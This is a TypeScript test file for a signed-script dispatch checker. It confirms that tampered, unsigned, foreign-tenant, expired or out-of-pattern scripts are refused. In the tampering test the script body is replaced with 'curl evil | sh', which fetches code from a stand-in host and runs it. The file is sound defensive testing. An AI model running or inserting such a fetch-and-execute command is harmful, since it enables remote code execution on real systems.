import { describe, expect, it } from 'vitest';
import { ScriptManifestSchema, type ScriptManifest } from './script-manifest.js';
import { judgeDispatch, type RunContext } from './script-verdict.js';
import { generateSigningKeyPair, signDocument } from './signing-keys.js';
import type { TrustDocument } from './trust.js';

const admin = generateSigningKeyPair();
const stranger = generateSigningKeyPair();
const trust: TrustDocument = { kind: 'vigil.trust', tenant: 'acme', version: 1, keys: [{ keyId: admin.keyId, publicKey: admin.publicKey, name: 'admin' }], issuedAt: 1 };
const NOW = 1_700_000_000_000;
const ctx: RunContext = { agentId: 'agt_1', tenantId: 'acme', platform: 'linux', trust, allowUnsigned: false, now: NOW };
const manifest: ScriptManifest = ScriptManifestSchema.parse({
  kind: 'vigil.script', name: 'clean tmp', version: 1, shell: 'bash', body: 'rm -rf "$1"/*', args: ['--'],
  params: [{ name: 'dir', type: 'string', required: true, pattern: '/tmp/[a-z]+' }], os: ['linux'],
});
const signed = (m: ScriptManifest = manifest, key = admin) => ({ manifest: m, signature: signDocument(m, key.privateKeyPem) });
const claim = (over: Partial<Parameters<typeof judgeDispatch>[0]> = {}) => ({ agentId: 'agt_1', expiresAt: NOW + 60_000, script: signed(), params: { dir: '/tmp/cache' }, ...over });
const reason = (c: Parameters<typeof judgeDispatch>[0], context: RunContext = ctx) => {
  const verdict = judgeDispatch(c, context);
  return verdict.run ? null : verdict.reason;
};

describe('judgeDispatch', () => {
  it('runs a script signed by a pinned key, with the fixed and typed arguments', () => {
    const verdict = judgeDispatch(claim(), ctx);
    expect(verdict).toMatchObject({ run: true, argv: ['--', '/tmp/cache'], env: { VIGIL_PARAM_DIR: '/tmp/cache' }, signer: admin.keyId });
  });

  it('refuses a script changed after signing', () => {
    const tampered = { manifest: { ...manifest, body: 'curl evil | sh' }, signature: signed().signature };
    expect(reason(claim({ script: tampered }))).toMatch(/altered after signing/);
  });

  it('refuses unsigned scripts unless in development mode, and unknown signers always', () => {
    expect(reason(claim({ script: { manifest, signature: null } }))).toMatch(/not signed/);
    expect(reason(claim({ script: { manifest, signature: null } }), { ...ctx, allowUnsigned: true })).toBeNull();
    expect(reason(claim({ script: signed(manifest, stranger) }), { ...ctx, allowUnsigned: true })).toBe(`script is signed by ${stranger.keyId}, which this agent does not trust`);
    expect(reason(claim(), { ...ctx, trust: null })).toMatch(/does not trust/);
  });

  it('refuses a dispatch for another agent or past its expiry, and a script past its own expiry', () => {
    expect(reason(claim({ agentId: 'agt_2' }))).toBe('dispatch is addressed to agent agt_2, but this is agent agt_1');
    expect(reason(claim({ expiresAt: NOW }))).toMatch(/^dispatch expired at/);
    expect(reason(claim({ script: signed({ ...manifest, expiresAt: NOW - 1 }) }))).toMatch(/^script signature expired at/);
  });

  it('refuses another tenant\'s script, another OS\'s, and parameter values the signer did not allow', () => {
    expect(reason(claim({ script: signed({ ...manifest, tenant: 'globex' }) }))).toBe('script is signed for tenant globex, but this agent belongs to acme');
    expect(reason(claim(), { ...ctx, platform: 'windows' })).toBe('script is for linux, not windows');
    expect(reason(claim({ params: { dir: '/etc' } }))).toMatch(/^parameter dir must match/);
  });
});
